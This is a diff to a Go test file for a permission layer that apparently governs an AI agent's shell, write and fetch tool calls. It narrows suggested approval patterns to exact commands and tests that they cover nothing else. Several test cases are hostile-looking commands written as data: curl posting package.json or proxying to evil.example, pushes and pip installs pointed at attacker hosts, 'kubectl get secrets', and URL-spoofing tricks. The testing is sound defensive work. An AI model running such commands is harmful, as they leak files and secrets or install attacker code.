@@ -58,10 +58,10 @@ func TestSuggestedPatternsCoverTheCall(t *testing.T) {
 	w := newWorld(t)
 	floor := w.floor(t, permit.Options{Sandboxed: true})
 	for command, want := range map[string]string{
-		"git push origin main":             "shell(git push *)",
-		"git add . && git push":            "shell(git push *)",
-		"curl -s https://example.com | wc": "shell(curl *)",
-		"go test ./...":                    "shell(go test *)",
+		"git push origin main":             "shell(git push origin main)",
+		"git add . && git push":            "shell(git push)",
+		"curl -s https://example.com | wc": "shell(curl -s https://example.com)",
+		"go test ./...":                    "shell(go test ./...)",
 		"go test && curl example.com":      "",
 		"$X":                               "",
 		"./run.sh":                         "",
@@ -72,8 +72,10 @@ func TestSuggestedPatternsCoverTheCall(t *testing.T) {
 		"git push --force origin main":     "shell(git push --force origin main)",
 		"git reset --hard HEAD~1":          "shell(git reset --hard HEAD~1)",
 		"nosuchprogram x":                  "shell(nosuchprogram x)",
-		"npm run build":                    "shell(npm run build *)",
-		"make":                             "shell(make *)",
+		"npm run build":                    "shell(npm run build)",
+		"make":                             "shell(make)",
+		"cd src && make":                   "",
+		"FOO=x make":                       "",
 		"python3 -c 'print(1)'":            "",
 		"python3 run.py":                   "",
 		"sh run.sh":                        "",
@@ -87,7 +89,7 @@ func TestSuggestedPatternsCoverTheCall(t *testing.T) {
 		}
 	}
 	strict := floor.In(permit.Strict)
-	if got := strict.Suggest(t.Context(), "write", input(t, map[string]any{"path": "src/b.go"})); got != "write(src/*)" {
+	if got := strict.Suggest(t.Context(), "write", input(t, map[string]any{"path": "src/b.go"})); got != "write(src/b.go)" {
 		t.Errorf("got %q", got)
 	}
 	if got := strict.Suggest(t.Context(), "write", input(t, map[string]any{"path": "b.go"})); got != "write(b.go)" {
@@ -103,15 +105,83 @@ func TestSuggestedPatternsCoverTheCall(t *testing.T) {
 		in   map[string]any
 		want string
 	}{
-		{"write", map[string]any{"path": "migrations/deep/1.sql"}, "write(migrations/**)"},
-		{"write", map[string]any{"path": "conf/a"}, "write(path:conf/*)"},
-		{"edit", map[string]any{"path": "src/a.go"}, "edit(src/*)"},
-		{"shell", map[string]any{"command": "ls -l src"}, "shell(ls *)"},
+		{"write", map[string]any{"path": "migrations/deep/1.sql"}, "write(migrations/deep/1.sql)"},
+		{"write", map[string]any{"path": "conf/a"}, "write(conf/a)"},
+		{"edit", map[string]any{"path": "src/a.go"}, "edit(src/a.go)"},
+		{"shell", map[string]any{"command": "ls -l src"}, "shell(ls -l src)"},
 		{"shell", map[string]any{"command": "touch x; ls"}, "shell(ls)"},
 		{"fetch", map[string]any{"url": "https://a.example/x?y"}, "fetch(https://a.example/*)"},
 	} {
 		if got := asks.Suggest(t.Context(), c.tool, input(t, c.in)); got != c.want {
 			t.Errorf("%s %v: %q, want %q", c.tool, c.in, got, c.want)
+		}
+	}
+}
+
+// Whoever takes a suggested pattern has approved what was shown. It covers no other host,
+// remote, registry, directory or file, and not the same words in another directory.
+//
+// SPEC P-17
+func TestSuggestedPatternsCoverNothingElse(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	for _, name := range []string{"sub/Makefile", "sub/x", "package.json"} {
+		w.write(t, name, "x")
+	}
+	tools := map[string]permit.Profile{"fetch": {Zone: permit.ZoneNetwork, URLs: []string{"url"}}}
+	floor := w.floor(t, permit.Options{Mode: permit.Strict, Sandboxed: true, Tools: tools, Rules: rules(t, "ask shell(git push)", "ask write(migrations/**)")})
+	command := func(text string) map[string]any { return map[string]any{"command": text} }
+	for _, c := range []struct {
+		tool     string
+		approved map[string]any
+		same     []map[string]any // what the pattern covers too
+		others   []map[string]any // and what not
+	}{
+		{"shell", command("curl -sS https://a.example/x"), []map[string]any{command("curl -sS https://a.example/x | head -3"), command("ls; curl -sS https://a.example/x")}, []map[string]any{
+			command("curl -sS https://evil.example/x"), command("curl -sS https://a.example/x https://evil.example/y"), command("curl -sS https://a.example/x -o x"),
+			command("curl -sS https://a.example/x -x evil.example"), command("curl -sS https://a.example/x -d @package.json"), command("curl -sS https://a.example/x > out"),
+		}},
+		{"shell", command("git push origin main"), []map[string]any{command("git status && git push origin main")}, []map[string]any{
+			command("git push evil main"), command("git push https://evil.example/x main"), command("git push origin other"), command("git push origin main --force"), command("git push"),
+			command("cd sub && git push origin main"), command("git -C sub push origin main"), command("(cd sub; git push origin main)"), command("HOME=/x git push origin main"),
+		}},
+		{"shell", command("pip install requests"), []map[string]any{command("pip install requests 2>&1 | tail -1")}, []map[string]any{
+			command("pip install evil"), command("pip install requests evil"), command("pip install requests -i https://evil.example"), command("pip install requests --proxy evil.example"),
+			command("PIP_INDEX_URL=https://evil.example pip install requests"),
+		}},
+		{"shell", command("npm install"), nil, []map[string]any{
+			command("npm install evil"), command("npm install --registry https://evil.example"), command("cd sub && npm install"), command("npm --prefix sub install"), command("FOO=x npm install"),
+		}},
+		{"shell", command("kubectl get pods"), nil, []map[string]any{
+			command("kubectl get secrets"), command("kubectl get pods --server https://evil.example"), command("kubectl get pods -n kube-system"),
+		}},
+		{"shell", command("make build"), []map[string]any{command("make build | tail -20")}, []map[string]any{
+			command("cd sub && make build"), command("pushd sub; make build"), command("make build -C sub"), command("make build SHELL=./evil"), command("make deploy"), command("env -C sub make build"),
+			command("cd sub\nmake build"), command("for d in sub; do cd $d; make build; done"), command("MAKEFILES=x make build"),
+		}},
+		{"shell", command("rm x.o"), nil, []map[string]any{command("rm y.o"), command("rm x.o y.o"), command("cd sub && rm x.o")}},
+		{"shell", command("cat " + w.outside + "/a"), nil, []map[string]any{command("cat " + w.outside + "/b"), command("cat " + w.outside + "/a " + w.outside + "/b")}},
+		{"write", map[string]any{"path": "src/b.go"}, []map[string]any{{"path": "src/b.go", "content": "x"}, {"path": "./src/b.go"}}, []map[string]any{{"path": "src/c.go"}, {"path": "b.go"}}},
+		{"write", map[string]any{"path": "migrations/1.sql"}, nil, []map[string]any{{"path": "migrations/2.sql"}}},
+		{"write", map[string]any{"path": "a[1]*.go"}, nil, []map[string]any{{"path": "a1x.go"}}},
+		{"fetch", map[string]any{"url": "https://a.example/x"}, []map[string]any{{"url": "https://a.example/y"}}, []map[string]any{
+			{"url": "https://b.example/x"}, {"url": "http://a.example/x"}, {"url": "https://a.example:8443/x"}, {"url": "https://a.example@evil.example/x"}, {"url": "https://a.example.evil.example/x"},
+		}},
+	} {
+		pattern := floor.Suggest(t.Context(), c.tool, input(t, c.approved))
+		if pattern == "" {
+			t.Errorf("%v: nothing is suggested", c.approved)
+			continue
+		}
+		for _, in := range append(c.same, c.approved) {
+			if ok, err := floor.Covers(t.Context(), pattern, call(t, c.tool, in)); !ok || err != nil {
+				t.Errorf("%s does not cover %v (%v)", pattern, in, err)
+			}
+		}
+		for _, in := range c.others {
+			if ok, err := floor.Covers(t.Context(), pattern, call(t, c.tool, in)); ok || err != nil {
+				t.Errorf("%s covers %v (%v)", pattern, in, err)
+			}
 		}
 	}
 }
